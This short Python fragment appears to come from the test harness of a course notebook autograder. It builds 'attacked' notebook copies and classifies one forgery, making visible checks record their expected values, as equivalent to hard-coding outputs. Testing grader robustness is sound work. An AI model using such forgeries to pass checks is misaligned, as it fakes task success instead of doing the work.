# Attacks that make a visible check record its public expected value while the test cell runs. Inside the
# kernel that cannot be told apart from a function that hard-codes the expected output, which the course
# accepts for visible checks (tests/assignments/<name>/variants.py, HARDCODED); hidden checks stay safe.
VISIBLE_FORGERY = {"forge_records_in_function"}  # equivalent to hard-coding the visible outputs


def build(name: str, nb, env: Env):
    """The attacked copy of ``nb`` (the caller's notebook is left alone)."""
    return ATTACKS[name](copy.deepcopy(nb), env)
